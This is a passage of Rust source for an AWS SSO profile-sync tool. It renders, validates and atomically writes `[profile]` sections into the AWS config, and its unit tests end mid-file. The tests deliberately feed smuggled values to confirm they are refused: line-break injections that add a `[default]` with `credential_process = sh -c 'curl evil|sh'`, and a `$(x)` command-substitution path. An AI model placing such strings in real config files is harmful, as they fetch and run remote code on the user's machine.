//! From (identity, account, role) to `[profile]` sections: a naming template, shell-safe slugs,
//! collision suffixes, per-profile overrides, and writing them into the identity's managed block
//! of the AWS config — strictly validated, backed up, locked and atomic.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use ts_rs::TS;

use crate::accounts::AccountRoles;
use crate::aws_config::{self, SectionKind};
use crate::sso::identity::{self, Identity};
use crate::{Error, Paths, Result};

/// Readable and shell-safe: `acme-dev/Developer`.
pub const DEFAULT_TEMPLATE: &str = "{account_name}/{role_name}";

/// How one identity's profiles are named and configured.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase", default)]
#[ts(export)]
pub struct ProfileSettings {
    /// Placeholders: `{account_name}`, `{account_id}`, `{role_name}`, `{session}`.
    pub template: String,
    /// `region` for every profile (default: the identity's region).
    pub default_region: Option<String>,
    /// Per-account region overrides (account id → region).
    pub account_regions: BTreeMap<String, String>,
    /// `output` for every profile.
    pub output: Option<String>,
    /// Renames by stable key `account_id/role_name`, so they survive re-syncs.
    pub overrides: BTreeMap<String, String>,
    /// Also a `credential_process` twin of every profile, for tools that cannot read IAM
    /// Identity Center profiles (off by default).
    pub credential_process: bool,
    /// The twin's name is the profile's followed by this.
    pub credential_process_suffix: String,
}

/// The default name suffix of `credential_process` twins: `acme-dev/Developer-process`.
pub const DEFAULT_PROCESS_SUFFIX: &str = "-process";

impl Default for ProfileSettings {
    fn default() -> Self {
        ProfileSettings {
            template: DEFAULT_TEMPLATE.into(),
            default_region: None,
            account_regions: BTreeMap::new(),
            output: None,
            overrides: BTreeMap::new(),
            credential_process: false,
            credential_process_suffix: DEFAULT_PROCESS_SUFFIX.into(),
        }
    }
}

/// A profile Lanyard will write.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub struct PlannedProfile {
    /// The profile name (`[profile NAME]`).
    pub name: String,
    /// The sso-session.
    pub session: String,
    /// The account id.
    pub account_id: String,
    /// The account name.
    pub account_name: String,
    /// The role.
    pub role_name: String,
    /// `region`.
    pub region: Option<String>,
    /// `output`.
    pub output: Option<String>,
    /// For a `credential_process` twin: the command (the section has no `sso_*` keys, or the SDKs
    /// would take the IAM Identity Center route first).
    pub credential_process: Option<String>,
}

/// What applying a plan changes, by profile name.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub struct ProfileDiff {
    /// New profiles.
    pub added: Vec<String>,
    /// Profiles whose settings change.
    pub changed: Vec<String>,
    /// Profiles that go (their role disappeared).
    pub removed: Vec<String>,
    /// Profiles left as they are.
    pub unchanged: u32,
}

/// A sync's preview: the profiles, the diff and the warnings.
#[derive(Debug, Clone, Serialize, TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub struct SyncPlan {
    /// The sso-session.
    pub session: String,
    /// Every profile, in name order.
    pub profiles: Vec<PlannedProfile>,
    /// Added / changed / removed against the file as it is.
    pub diff: ProfileDiff,
    /// E.g. a name taken by one of your own profiles (Lanyard's gets a suffix).
    pub warnings: Vec<String>,
    /// The config file it applies to.
    pub config_file: String,
}

/// Keeps `[A-Za-z0-9._/-]`, turns runs of anything else into one `-`.
pub fn slug(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '-') {
            out.push(c);
        } else if !out.ends_with('-') {
            out.push('-');
        }
    }
    let trimmed = out.trim_matches(|c| c == '-' || c == '/');
    let mut collapsed = String::new();
    for c in trimmed.chars() {
        if !(c == '-' && collapsed.ends_with('-')) {
            collapsed.push(c);
        }
    }
    collapsed
}

/// Renders the template for one role; the result is slugged.
pub fn render(template: &str, session: &str, a: &AccountRoles, role: &str) -> Result<String> {
    let mut out = String::new();
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let end = rest[start..].find('}').ok_or_else(|| Error::InvalidInput {
            field: "template",
            reason: format!("unclosed '{{' in {template:?}"),
        })? + start;
        out.push_str(&match &rest[start + 1..end] {
            "account_name" => slug(&a.account_name),
            "account_id" => a.account_id.clone(),
            "role_name" => slug(role),
            "session" => slug(session),
            other => {
                return Err(Error::InvalidInput {
                    field: "template",
                    reason: format!("unknown placeholder {{{other}}}; use {{account_name}}, {{account_id}}, {{role_name}} or {{session}}"),
                });
            }
        });
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    let name = slug(&out);
    if name.is_empty() {
        return Err(Error::InvalidInput {
            field: "template",
            reason: format!("{template:?} gives an empty profile name"),
        });
    }
    Ok(name)
}

/// Checks a template by rendering it for a sample role (the Settings view's validation).
pub fn check_template(template: &str) -> std::result::Result<(), String> {
    let sample = AccountRoles {
        account_id: "111122223333".into(),
        account_name: "Sample Account".into(),
        email: String::new(),
        roles: vec![],
    };
    render(template, "session", &sample, "Developer")
        .map(|_| ())
        .map_err(|e| match e {
            Error::InvalidInput { reason, .. } => reason,
            other => other.to_string(),
        })
}

/// The managed-block id of an identity's profiles.
pub fn block_id(session: &str) -> String {
    format!("profiles for sso-session {session}")
}

fn profile_names_in(text: &str) -> Vec<(String, usize)> {
    aws_config::sections(text)
        .into_iter()
        .filter_map(|s| match s.kind {
            SectionKind::Profile(n) => Some((n, s.line)),
            _ => None,
        })
        .collect()
}

fn block_text(text: &str, id: &str) -> String {
    aws_config::find_block(text, id)
        .map(|r| text[r].to_owned())
        .unwrap_or_default()
}

/// Computes the profiles for an identity's accounts, against the config text as it is now.
pub fn plan(
    paths: &Paths,
    identity: &Identity,
    accounts: &[AccountRoles],
    settings: &ProfileSettings,
    config_text: &str,
) -> Result<SyncPlan> {
    let mut rendered: Vec<PlannedProfile> = vec![];
    for a in accounts {
        for role in &a.roles {
            let key = format!("{}/{role}", a.account_id);
            let name = match settings.overrides.get(&key) {
                Some(n) => slug(n),
                None => render(&settings.template, &identity.session, a, role)?,
            };
            rendered.push(PlannedProfile {
                name,
                session: identity.session.clone(),
                account_id: a.account_id.clone(),
                account_name: a.account_name.clone(),
                role_name: role.clone(),
                region: settings
                    .account_regions
                    .get(&a.account_id)
                    .cloned()
                    .or_else(|| settings.default_region.clone())
                    .or_else(|| Some(identity.region.clone())),
                output: settings.output.clone(),
                credential_process: None,
            });
        }
    }
    // Two accounts that slug to the same name both get a short id suffix.
    let mut by_name: HashMap<String, BTreeSet<String>> = HashMap::new();
    for p in &rendered {
        by_name
            .entry(p.name.clone())
            .or_default()
            .insert(p.account_id.clone());
    }
    for p in &mut rendered {
        if by_name[&p.name].len() > 1 {
            // By characters: an id from the server is not necessarily ASCII.
            let n = p.account_id.chars().count();
            let tail: String = p.account_id.chars().skip(n.saturating_sub(4)).collect();
            p.name = format!("{}-{tail}", p.name);
        }
    }
    // Never a name that exists outside this identity's blocks: suffix it and say so.
    let own = block_text(config_text, &block_id(&identity.session));
    let own_names: BTreeSet<String> = profile_names_in(&own).into_iter().map(|(n, _)| n).collect();
    let taken: HashMap<String, usize> = profile_names_in(config_text)
        .into_iter()
        .filter(|(n, _)| !own_names.contains(n))
        .collect();
    let mut warnings = vec![];
    let mut used: BTreeSet<String> = BTreeSet::new();
    free_names(&mut rendered, &taken, &mut used, &mut warnings);
    if settings.credential_process {
        check_suffix(&settings.credential_process_suffix)?;
        match paths.lanyard_cli.as_deref().map(process_command) {
            Some(Ok(prefix)) => {
                let mut twins: Vec<PlannedProfile> = rendered
                    .iter()
                    .map(|p| twin(p, &settings.credential_process_suffix, &prefix))
                    .collect();
                free_names(&mut twins, &taken, &mut used, &mut warnings);
                rendered.extend(twins);
            }
            Some(Err(reason)) => warnings.push(reason),
            None => warnings.push(
                "credential_process profiles need the lanyard command, which was not found next to this program: none written".into(),
            ),
        }
    }
    rendered.sort_by(|a, b| a.name.cmp(&b.name));
    // Every section through the writer now, so a bad value is refused at the preview, not Apply.
    for p in &rendered {
        section_body(p)?;
    }
    let diff = diff(&own, &rendered)?;
    Ok(SyncPlan {
        session: identity.session.clone(),
        profiles: rendered,
        diff,
        warnings,
        config_file: paths.aws_config_file.display().to_string(),
    })
}

/// Renames profiles whose name is taken outside the identity's block, used by an earlier one, or
/// `default`, and says so.
fn free_names(
    profiles: &mut [PlannedProfile],
    taken: &HashMap<String, usize>,
    used: &mut BTreeSet<String>,
    warnings: &mut Vec<String>,
) {
    for p in profiles {
        let original = p.name.clone();
        let mut n = 1;
        while taken.contains_key(&p.name) || used.contains(&p.name) || p.name == "default" {
            n += 1;
            p.name = format!("{original}-{n}");
        }
        if p.name != original {
            let why = taken.get(&original).map_or_else(
                || "is already used".to_owned(),
                |line| format!("already exists in your config (line {line})"),
            );
            warnings.push(format!(
                "profile {original} {why}; Lanyard's is named {}",
                p.name
            ));
        }
        used.insert(p.name.clone());
    }
}

fn check_suffix(suffix: &str) -> Result<()> {
    let ok = (1..=32).contains(&suffix.len())
        && suffix
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
    if ok {
        Ok(())
    } else {
        Err(Error::InvalidInput {
            field: "credentialProcessSuffix",
            reason: format!(
                "the credential_process suffix {suffix:?} must be 1 to 32 letters, digits, '.', '_' or '-'"
            ),
        })
    }
}

/// The start of a twin's `credential_process` line: the lanyard binary's absolute path, quoted
/// when it has spaces so that both readers split it right (botocore with POSIX shell rules, the
/// Rust SDK through `sh -c`); a path no quoting serves both ways is refused.
pub fn process_command(lanyard: &Path) -> std::result::Result<String, String> {
    let s = lanyard.to_str().ok_or_else(|| {
        format!(
            "the lanyard path {} is not UTF-8: no credential_process profiles written",
            lanyard.display()
        )
    })?;
    if !lanyard.is_absolute() || s.chars().any(|c| c.is_control() || "\"\\$`'".contains(c)) {
        return Err(format!(
            "the lanyard path {s:?} cannot be written in a credential_process line: none written"
        ));
    }
    Ok(if s.contains(' ') {
        format!("\"{s}\"")
    } else {
        s.to_owned()
    })
}

/// The `credential_process` twin of a profile.
pub fn twin(p: &PlannedProfile, suffix: &str, command: &str) -> PlannedProfile {
    PlannedProfile {
        name: format!("{}{suffix}", p.name),
        credential_process: Some(format!(
            "{command} export-credentials --profile {} --format process",
            p.name
        )),
        ..p.clone()
    }
}

/// A profile's section, through the one writer that refuses values with line breaks (from the
/// user's settings or from the server alike).
fn section_body(p: &PlannedProfile) -> Result<String> {
    let w = aws_config::SectionWriter::new("profile", &p.name);
    let w = match &p.credential_process {
        Some(cmd) => w.and_then(|w| w.key("credential_process", cmd)),
        None => w
            .and_then(|w| w.key("sso_session", &p.session))
            .and_then(|w| w.key("sso_account_id", &p.account_id))
            .and_then(|w| w.key("sso_role_name", &p.role_name)),
    };
    let w = match &p.region {
        Some(r) => w.and_then(|w| w.key("region", r)),
        None => w,
    };
    let w = match &p.output {
        Some(o) => w.and_then(|w| w.key("output", o)),
        None => w,
    };
    w.map(aws_config::SectionWriter::finish)
        .map_err(|e| unsafe_value(&p.name, e))
}

fn unsafe_value(profile: &str, e: aws_config::UnsafeValue) -> Error {
    Error::InvalidInput {
        field: e.key,
        reason: format!("profile {profile:?}: {}", e.reason),
    }
}

fn diff(old_block: &str, new: &[PlannedProfile]) -> Result<ProfileDiff> {
    let old: HashMap<String, Vec<(String, String)>> = aws_config::sections(old_block)
        .into_iter()
        .filter_map(|s| match s.kind {
            SectionKind::Profile(n) => Some((n, s.keys)),
            _ => None,
        })
        .collect();
    let mut d = ProfileDiff::default();
    let new_names: BTreeSet<&str> = new.iter().map(|p| p.name.as_str()).collect();
    for p in new {
        match old.get(&p.name) {
            None => d.added.push(p.name.clone()),
            Some(keys) => {
                let want = aws_config::sections(&section_body(p)?).remove(0).keys;
                if *keys == want {
                    d.unchanged += 1
                } else {
                    d.changed.push(p.name.clone())
                }
            }
        }
    }
    d.removed = old
        .keys()
        .filter(|n| !new_names.contains(n.as_str()))
        .cloned()
        .collect();
    d.removed.sort();
    Ok(d)
}

/// The config text with the plan applied (pure; see [`apply`] for the file).
pub fn render_config(config_text: &str, plan: &SyncPlan) -> Result<String> {
    let body = plan
        .profiles
        .iter()
        .map(section_body)
        .collect::<Result<Vec<String>>>()?;
    Ok(aws_config::upsert_block(
        config_text,
        &block_id(&plan.session),
        &body.join("\n"),
    ))
}

/// Checks a whole config the way botocore reads it ([`aws_config::botocore_problem`]); the error
/// says where. Lanyard never writes a file botocore would refuse — and says so when the user's
/// own file already is one.
pub fn validate(path: &Path, text: &str) -> Result<()> {
    match aws_config::botocore_problem(text) {
        None => Ok(()),
        Some((line, reason)) => Err(Error::Config {
            path: path.to_owned(),
            reason: format!("line {line}: {reason}"),
        }),
    }
}

/// Takes Lanyard's advisory lock on the AWS config (held until the file is dropped), so two
/// Lanyard processes — a sync and a sign-in that adds an identity, say — never interleave their
/// read-modify-write of the same file.
pub fn lock_config(paths: &Paths) -> Result<std::fs::File> {
    let io = |what, path: &Path, source| Error::Io {
        what,
        path: path.to_owned(),
        source,
    };
    crate::fsx::make_private_dir(&paths.data_dir)?;
    let lock_path = paths.data_dir.join("config.lock");
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&lock_path)
        .map_err(|e| io("opening", &lock_path, e))?;
    lock.lock().map_err(|e| io("locking", &lock_path, e))?;
    Ok(lock)
}

/// What [`apply`] did.
#[derive(Debug, Clone, Serialize, TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub struct SyncReport {
    /// The changes made.
    pub diff: ProfileDiff,
    /// The backup of the previous file, when there was one.
    pub backup: Option<String>,
}

pub(crate) fn settings_path(paths: &Paths, session: &str) -> PathBuf {
    paths
        .data_dir
        .join("profiles")
        .join(format!("{session}.json"))
}

/// An identity's remembered profile settings (defaults when none or unreadable).
pub fn load_settings(paths: &Paths, session: &str) -> ProfileSettings {
    load_settings_or(paths, session, DEFAULT_TEMPLATE)
}

/// An identity's remembered profile settings, or the defaults with `template` when it has none.
pub fn load_settings_or(paths: &Paths, session: &str, template: &str) -> ProfileSettings {
    match std::fs::read(settings_path(paths, session))
        .ok()
        .and_then(|b| serde_json::from_slice(&b).ok())
    {
        Some(s) => s,
        None => ProfileSettings {
            template: template.to_owned(),
            ..ProfileSettings::default()
        },
    }
}

/// Remembers an identity's profile settings.
pub fn save_settings(paths: &Paths, session: &str, settings: &ProfileSettings) -> Result<()> {
    let bytes = serde_json::to_vec_pretty(settings).map_err(|e| Error::Config {
        path: settings_path(paths, session),
        reason: e.to_string(),
    })?;
    crate::fsx::write_private(&settings_path(paths, session), &bytes)
}

fn favourites_path(paths: &Paths) -> PathBuf {
    paths.data_dir.join("profiles").join("favourites.json")
}

/// Favourite profile names, in the order they were starred.
pub fn favourites(paths: &Paths) -> Vec<String> {
    std::fs::read(favourites_path(paths))
        .ok()
        .and_then(|b| serde_json::from_slice(&b).ok())
        .unwrap_or_default()
}

/// Stars or unstars a profile; returns the new list.
pub fn set_favourite(paths: &Paths, profile: &str, favourite: bool) -> Result<Vec<String>> {
    let mut list = favourites(paths);
    list.retain(|p| p != profile);
    if favourite {
        list.push(profile.to_owned());
    }
    let bytes = serde_json::to_vec(&list).map_err(|e| Error::Config {
        path: favourites_path(paths),
        reason: e.to_string(),
    })?;
    crate::fsx::write_private(&favourites_path(paths), &bytes)?;
    Ok(list)
}

/// How many backups of the config Lanyard keeps.
pub const BACKUPS_KEPT: usize = 10;

/// Writes the plan into the config: under an advisory lock, re-reading the file, validating the
/// whole result, keeping a timestamped backup, atomically (a symlinked config stays a link).
pub fn apply(paths: &Paths, plan: &SyncPlan, now: time::OffsetDateTime) -> Result<SyncReport> {
    let _lock = lock_config(paths)?;
    if std::fs::metadata(&paths.aws_config_file).is_ok_and(|m| m.permissions().readonly()) {
        return Err(Error::Config {
            path: paths.aws_config_file.clone(),
            reason: "is read-only; Lanyard leaves it alone (make it writable to sync profiles)"
                .into(),
        });
    }
    let current = identity::read_config(&paths.aws_config_file)?;
    validate(&paths.aws_config_file, &current)?;
    let fresh = plan_against(paths, plan, &current)?;
    let updated = render_config(&current, &fresh)?;
    validate(&paths.aws_config_file, &updated)?;
    let backup = if current.is_empty() || updated == current {
        None
    } else {
        Some(backup(paths, &current, now)?)
    };
    if updated != current {
        identity::write_config(&paths.aws_config_file, &updated)?;
    }
    Ok(SyncReport {
        diff: fresh.diff,
        backup: backup.map(|p| p.display().to_string()),
    })
}

/// Recomputes the diff against the file as it is right now (it may have changed since the preview).
fn plan_against(paths: &Paths, plan: &SyncPlan, current: &str) -> Result<SyncPlan> {
    let own = block_text(current, &block_id(&plan.session));
    Ok(SyncPlan {
        diff: diff(&own, &plan.profiles)?,
        config_file: paths.aws_config_file.display().to_string(),
        ..plan.clone()
    })
}

fn backup(paths: &Paths, text: &str, now: time::OffsetDateTime) -> Result<PathBuf> {
    let dir = paths.data_dir.join("backups");
    let stamp = crate::sso::cache::format_time(now).replace([':', '-'], "");
    // Nanoseconds and a counter: two syncs in the same second must not share (and lose) a backup;
    // fixed widths keep name order = time order for pruning.
    let mut n = 0;
    let path = loop {
        let p = dir.join(format!("config.{stamp}.{:09}.{n:03}.bak", now.nanosecond()));
        if !p.exists() {
            break p;
        }
        n += 1;
    };
    crate::fsx::write_private(&path, text.as_bytes())?;
    let mut old: Vec<PathBuf> = std::fs::read_dir(&dir)
        .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
        .unwrap_or_default();
    old.sort();
    for p in old.iter().take(old.len().saturating_sub(BACKUPS_KEPT)) {
        let _ = std::fs::remove_file(p);
    }
    Ok(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn acct(id: &str, name: &str, roles: &[&str]) -> AccountRoles {
        AccountRoles {
            account_id: id.into(),
            account_name: name.into(),
            email: String::new(),
            roles: roles.iter().map(|r| (*r).into()).collect(),
        }
    }

    fn id() -> Identity {
        Identity {
            session: "acme".into(),
            start_url: "https://acme.awsapps.com/start".into(),
            region: "us-east-1".into(),
            scopes: vec![],
            managed: true,
        }
    }

    #[test]
    fn slugs_are_shell_safe() {
        assert_eq!(slug("Acme Prod [EU]"), "Acme-Prod-EU");
        assert_eq!(slug("  ünïcode\n\"quoted\" "), "n-code-quoted");
        assert_eq!(slug("a///b"), "a///b");
        assert_eq!(slug("--x--"), "x");
    }

    #[test]
    fn template_placeholders_and_errors() {
        let a = acct("111122223333", "Acme Dev", &["Developer"]);
        assert_eq!(
            render(DEFAULT_TEMPLATE, "acme", &a, "Developer").unwrap(),
            "Acme-Dev/Developer"
        );
        assert_eq!(
            render("{session}-{account_id}-{role_name}", "acme", &a, "Dev Ops").unwrap(),
            "acme-111122223333-Dev-Ops"
        );
        assert!(
            render("{nope}", "acme", &a, "x")
                .unwrap_err()
                .to_string()
                .contains("unknown placeholder {nope}")
        );
        assert!(render("{account_name", "acme", &a, "x").is_err());
    }

    #[test]
    fn collisions_get_suffixes_and_user_names_are_never_taken() {
        let accounts = [
            acct("111111111111", "Audit", &["ReadOnly"]),
            acct("222222222222", "Audit", &["ReadOnly"]),
            acct("333333333333", "dev", &["Admin"]),
        ];
        let user = "[profile dev/Admin]\nregion = eu-west-1\n";
        let p = plan(
            &Paths::sandboxed(Path::new("/x")),
            &id(),
            &accounts,
            &ProfileSettings::default(),
            user,
        )
        .unwrap();
        let names: Vec<&str> = p.profiles.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(
            names,
            ["Audit/ReadOnly-1111", "Audit/ReadOnly-2222", "dev/Admin-2"]
        );
        assert!(p.warnings[0].contains("dev/Admin already exists in your config (line 1)"));
    }

    fn with_cli(bin: &str) -> Paths {
        Paths {
            lanyard_cli: Some(bin.into()),
            ..Paths::sandboxed(Path::new("/x"))
        }
    }

    #[test]
    fn credential_process_twins_are_opt_in_named_by_suffix_and_free_of_sso_keys() {
        let accounts = [acct("111111111111", "prod", &["Admin"])];
        let paths = with_cli("/opt/Lanyard Tools/lanyard");
        let off = plan(&paths, &id(), &accounts, &ProfileSettings::default(), "").unwrap();
        assert_eq!(off.profiles.len(), 1, "off by default");

        let on = ProfileSettings {
            credential_process: true,
            ..Default::default()
        };
        // The user's own profile already has the twin's name: Lanyard's twin gets a suffix.
        let user = "[profile prod/Admin-process]\nregion = eu-west-1\n";
        let p = plan(&paths, &id(), &accounts, &on, user).unwrap();
        let names: Vec<&str> = p.profiles.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(names, ["prod/Admin", "prod/Admin-process-2"]);
        assert!(p.warnings[0].contains("prod/Admin-process already exists"));
        let text = render_config(user, &p).unwrap();
        assert!(text.contains(
            "[profile prod/Admin-process-2]\ncredential_process = \"/opt/Lanyard Tools/lanyard\" export-credentials --profile prod/Admin --format process\nregion = us-east-1\n"
        ), "{text}");
        let twin = aws_config::sections(&text)
            .into_iter()
            .find(|s| s.kind == SectionKind::Profile("prod/Admin-process-2".into()))
            .unwrap();
        assert!(twin.keys.iter().all(|(k, _)| !k.starts_with("sso_")));
        assert_eq!(aws_config::botocore_problem(&text), None);

        // The binary moved: the next sync re-points the twin (a change), the rest is unchanged.
        let moved = plan(&with_cli("/usr/bin/lanyard"), &id(), &accounts, &on, &text).unwrap();
        assert_eq!(moved.diff.changed, ["prod/Admin-process-2"]);
        assert_eq!(moved.diff.unchanged, 1);
        // Turned off again: the twin goes.
        let p = plan(&paths, &id(), &accounts, &ProfileSettings::default(), &text).unwrap();
        assert_eq!(p.diff.removed, ["prod/Admin-process-2"]);
    }

    #[test]
    fn twins_need_a_usable_suffix_and_a_lanyard_path() {
        let accounts = [acct("111111111111", "prod", &["Admin"])];
        let mut on = ProfileSettings {
            credential_process: true,
            credential_process_suffix: "-p\n[default]".into(),
            ..Default::default()
        };
        let e = plan(&with_cli("/usr/bin/lanyard"), &id(), &accounts, &on, "").unwrap_err();
        assert!(e.to_string().contains("credential_process suffix"), "{e}");
        on.credential_process_suffix = ".cp".into();
        let p = plan(
            &Paths::sandboxed(Path::new("/x")),
            &id(),
            &accounts,
            &on,
            "",
        )
        .unwrap();
        assert_eq!(p.profiles.len(), 1);
        assert!(p.warnings[0].contains("need the lanyard command"));
        let p = plan(&with_cli("/tmp/$(x)/lanyard"), &id(), &accounts, &on, "").unwrap();
        assert_eq!(p.profiles.len(), 1);
        assert!(
            p.warnings[0].contains("cannot be written"),
            "{:?}",
            p.warnings
        );
        let p = plan(&with_cli("/usr/bin/lanyard"), &id(), &accounts, &on, "").unwrap();
        assert_eq!(p.profiles[1].name, "prod/Admin.cp");
    }

    /// Every value a profile is written with — from the settings (CLI flags, the window) and
    /// from the server (account ids, role names) — with CR alone, LF alone and CRLF: the plan is
    /// refused naming the key, and nothing can add a `[default]` with a `credential_process`.
    #[test]
    fn no_value_with_a_line_break_reaches_the_config() {
        let paths = Paths::sandboxed(Path::new("/x"));
        let evil =
            |le: &str| format!("json{le}[default]{le}credential_process = sh -c 'curl evil|sh'");
        for le in ["\r", "\n", "\r\n"] {
            let accounts = [acct("111111111111", "prod", &["Admin"])];
            let settings = [
                (
                    "output",
                    ProfileSettings {
                        output: Some(evil(le)),
                        ..Default::default()
                    },
                ),
                (
                    "region",
                    ProfileSettings {
                        default_region: Some(evil(le)),
                        ..Default::default()
                    },
                ),
                ("region", {
                    let mut s = ProfileSettings::default();
                    s.account_regions.insert("111111111111".into(), evil(le));
                    s
                }),
            ];
            for (key, s) in settings {
                match plan(&paths, &id(), &accounts, &s, "") {
                    Err(Error::InvalidInput { field, reason }) => {
                        assert_eq!(field, key, "{le:?}");
                        assert!(reason.contains("line break"), "{reason}");
                    }
                    other => panic!("{key} {le:?}: {other:?}"),
                }
            }
            // From the server.
            for (accounts, key) in [
                (
                    [acct(&format!("1{le}[default]"), "prod", &["Admin"])],
                    "sso_account_id",
                ),
                (
                    [acct(
                        "111111111111",
                        "prod",
                        &[&format!("Admin{le}[default]")],
                    )],
                    "sso_role_name",
                ),
            ] {
                match plan(&paths, &id(), &accounts, &ProfileSettings::default(), "") {
                    Err(Error::InvalidInput { field, .. }) => assert_eq!(field, key, "{le:?}"),
                    other => panic!("{key} {le:?}: {other:?}"),
                }
            }
        }
        // An account id that is not ASCII does not panic the naming of colliding profiles.
        let accounts = [
            acct("ééééé", "prod", &["Admin"]),
            acct("ïïïïï", "prod", &["Admin"]),
        ];
        let p = plan(&paths, &id(), &accounts, &ProfileSettings::default(), "").unwrap();
        assert!(
            p.profiles.iter().any(|p| p.name.ends_with("-éééé")),
            "{:?}",
            p.profiles
        );
    }

    #[test]
    fn overrides_survive_and_regions_apply() {
        let accounts = [acct("111111111111", "prod", &["Admin", "ReadOnly"])];
        let mut s = ProfileSettings {
            output: Some("json".into()),
            ..Default::default()
        };
        s.overrides
            .insert("111111111111/Admin".into(), "prod-admin".into());
        s.account_regions
            .insert("111111111111".into(), "eu-central-1".into());
        let p = plan(&Paths::sandboxed(Path::new("/x")), &id(), &accounts, &s, "").unwrap();
        assert_eq!(p.profiles[0].name, "prod-admin");
        assert_eq!(p.profiles[0].region.as_deref(), Some("eu-central-1"));
        assert_eq!(p.diff.added.len(), 2);
    }

    #[test]
    fn apply_writes_diffs_prunes_and_restores() {
        let dir = tempfile::tempdir().unwrap();
        let paths = Paths::sandboxed(dir.path());
        std::fs::create_dir_all(paths.aws_config_file.parent().unwrap()).unwrap();
        let original = "# mine\r\n[profile keep]\r\nregion = us-west-2";
        std::fs::write(&paths.aws_config_file, original).unwrap();
        let now = time::OffsetDateTime::now_utc();
        let two = [acct("111111111111", "prod", &["Admin", "ReadOnly"])];
        let p = plan(&paths, &id(), &two, &ProfileSettings::default(), original).unwrap();
        let r = apply(&paths, &p, now).unwrap();
        assert_eq!(r.diff.added, ["prod/Admin", "prod/ReadOnly"]);
        assert!(r.backup.is_some());
        let text = std::fs::read_to_string(&paths.aws_config_file).unwrap();
        assert!(text.starts_with(original) && text.contains("sso_role_name = ReadOnly\r\n"));

        let one = [acct("111111111111", "prod", &["Admin"])];
        let p = plan(&paths, &id(), &one, &ProfileSettings::default(), &text).unwrap();
        assert_eq!(
            (p.diff.removed.clone(), p.diff.unchanged),
            (vec!["prod/ReadOnly".to_owned()], 1)
        );
        apply(&paths, &p, now).unwrap();
        let text = std::fs::read_to_string(&paths.aws_config_file).unwrap();
        assert!(!text.contains("ReadOnly"));
        assert_eq!(
            aws_config::remove_block(&text, &block_id("acme")),
            original,
            "byte-identical outside the block"
        );
    }

    /// The preview was made, then the user edited the config (or another writer did) before
    /// Apply: Apply works from the file as it is now, keeps the edit, and refuses a name the
    /// edit took rather than writing a section botocore would reject as a duplicate.
    #[test]
    fn apply_uses_the_config_as_it_is_after_the_preview() {
        let dir = tempfile::tempdir().unwrap();
        let paths = Paths::sandboxed(dir.path());
        std::fs::create_dir_all(paths.aws_config_file.parent().unwrap()).unwrap();
        let original = "[profile keep]\nregion = us-west-2\n";
        std::fs::write(&paths.aws_config_file, original).unwrap();
        let now = time::OffsetDateTime::now_utc();
        let two = [acct("111111111111", "prod", &["Admin", "ReadOnly"])];
        let p = plan(&paths, &id(), &two, &ProfileSettings::default(), original).unwrap();

        let edited = format!("{original}[profile added-by-hand]\nregion = eu-west-1\n");
        std::fs::write(&paths.aws_config_file, &edited).unwrap();
        let r = apply(&paths, &p, now).unwrap();
        assert_eq!(r.diff.added, ["prod/Admin", "prod/ReadOnly"]);
        let text = std::fs::read_to_string(&paths.aws_config_file).unwrap();
        assert_eq!(aws_config::remove_block(&text, &block_id("acme")), edited);

        // Now the hand edit takes a name the preview planned.
        std::fs::write(&paths.aws_config_file, original).unwrap();
        let p = plan(&paths, &id(), &two, &ProfileSettings::default(), original).unwrap();
        let clash = format!("{original}[profile prod/Admin]\nregion = eu-west-1\n");
        std::fs::write(&paths.aws_config_file, &clash).unwrap();
        let e = apply(&paths, &p, now).unwrap_err().to_string();
        assert!(e.contains("prod/Admin"), "{e}");
        assert_eq!(
            std::fs::read_to_string(&paths.aws_config_file).unwrap(),
            clash,
            "nothing written"
        );
    }

    #[test]
    fn refuses_what_botocore_cannot_read() {
        let p = Path::new("config");
        assert!(validate(p, "[default]\n[profile a]\n").is_ok());
        let e = validate(p, "[profile a]\nx=1\n[profile a]\n")
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("line 3") && e.contains("already defined on line 1"),
            "{e}"
        );
        assert!(validate(p, "[profile a b]\n").is_err());
        assert!(validate(p, "[profile a\n").is_err());
        // Each case checked against Python's configparser.RawConfigParser (what botocore uses).
        let table: &[(&str, Option<&str>)] = &[
            (
                "[services x]\nsso =\n  endpoint_url = http://x\n  other = 1\n[profile a]\nservices = x\n",
                None,
            ),
            ("[profile a]\nregion: us-east-1\n", None),
            ("[profile a]\n  region = x\n", None),
            ("[profile a]\nsso =\n# c\n  x = 1\n", None),
            ("[profile a]\n[profile A]\n", None),
            ("[profile a] trailing\nregion = x\n", None),
            ("[profile a]\nregion = x\n[profile b]\nregion = y\n", None),
            ("[profile a]\nregion = x\n  region = y\n", None),
            (
                "region = us-east-1\n[default]\n",
                Some("line 1: \"region = us-east-1\" comes before any [section]"),
            ),
            (
                "[profile a]\njust words\n",
                Some("line 2: \"just words\" in [profile a] is not `key = value`"),
            ),
            (
                "[profile a]\nregion = x\nregion = y\n",
                Some("line 3: `region` is already set in [profile a] on line 2"),
            ),
            (
                "[profile a]\r\nRegion = x\r\nregion = y\r\n",
                Some("`region` is already set"),
            ),
            ("[profile a]\n= x\n", Some("a value without a key")),
        ];
        for (text, want) in table {
            match (validate(p, text), want) {
                (Ok(()), None) => {}
                (Err(e), Some(w)) => assert!(e.to_string().contains(w), "{text:?}: {e}"),
                (got, _) => panic!("{text:?}: expected {want:?}, got {got:?}"),
